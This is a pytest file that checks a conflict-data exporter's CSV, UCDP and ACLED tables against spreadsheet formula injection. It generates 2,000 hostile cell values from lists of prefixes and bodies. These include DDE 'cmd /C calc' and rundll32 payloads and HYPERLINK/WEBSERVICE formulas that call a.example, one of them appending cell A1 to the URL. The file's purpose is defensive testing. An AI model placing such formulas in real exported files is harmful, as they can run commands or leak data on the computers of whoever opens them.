"""A spreadsheet runs nothing of what a report holds, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import random
import re
from collections.abc import Iterator

import msgspec
import pytest

from histor.export.coded import WRITERS
from histor.export.dossier import Dossier, Telling
from histor.export.formats import FORMATS
from histor.model.records import CodedReport
from tests.dossiers import ANDARAB, POLICE, TALIBAN, incident, mention, report
from tests.reliability import Figure

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    ";=",
    ",=",
    '"=',
    '",="',
    "\x0b=",
    "\u00a0=",
]
BODIES = [
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://a.example/?x=\"&A1,\"more\")", "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://a.example\"))",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "WEBSERVICE(\"http://a.example\")", "2+5+cmd|' /C notepad'!'A1'", "rundll32|'URL.dll,OpenURL a.example'!A",
    "@SUM(1)", "-2+3", "12\n=1+1", "1\r=1+1", "\"\n=cmd\"", "A1\t=B1", "IF(1,CHAR(61))", "$A$1", "{1}", "TRUE", "-12.3e5",
]  # fmt: skip
# A cell that a spreadsheet runs: its first character, past blanks, is one of its signs, ASCII or wide.
RUN = re.compile(r"[\s\u00a0]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?(?:e-?[0-9]+)?")
TABLES = ("ucdp", "acled", "csv")


def payloads(count: int) -> list[str]:
    rng = random.Random(5)
    every = [start + body for start in STARTS for body in BODIES]
    more = (rng.choice(STARTS) + rng.choice(STARTS) + rng.choice(BODIES) for _ in range(count))
    return [*every, *more][:count]


def hostile(payload: str) -> Dossier:
    actor = msgspec.structs.replace(TALIBAN, text=payload, name=payload, id=None)
    place = msgspec.structs.replace(
        ANDARAB, text=payload, name=payload, admin1=payload, admin2=payload, longitude=-12.3
    )
    telling = mention(actors=(actor,), recipients=(POLICE, actor), place=place, why=(payload,))
    found = incident(actors=(actor,), recipients=(POLICE, actor), place=place)
    return Dossier(found, (Telling(telling, report(source=payload, title=payload, text=payload + " " * 60)),))


def cells(form: str, dossier: Dossier) -> Iterator[str]:
    out = io.BytesIO()
    if form == "coded":
        writer = WRITERS["csv"](out)
        telling = dossier.tellings[0]
        writer.write(CodedReport(telling.report, (telling.mention,), ()))
    else:
        incidents = FORMATS[form](out)
        incidents.write(dossier)
        incidents.close()
    for row in csv.reader(io.StringIO(out.getvalue().decode(), newline="")):
        yield from row


@pytest.mark.promise("formulas")
def test_no_cell_is_a_formula(figure: Figure) -> None:
    tried = payloads(2000)
    assert len(tried) == 2000
    seen = 0
    for payload in tried:
        dossier = hostile(payload)
        for form in ("coded", *TABLES):
            found = list(cells(form, dossier))
            assert [c for c in found if RUN.match(c) and not NUMBER.fullmatch(c)] == [], (form, payload)
            assert "-12.3" in found
            seen += len(found)
    figure(f"2,000 payloads in {seen:,} cells of 4 tables: 0 formula cells; -12.3 stays a number")
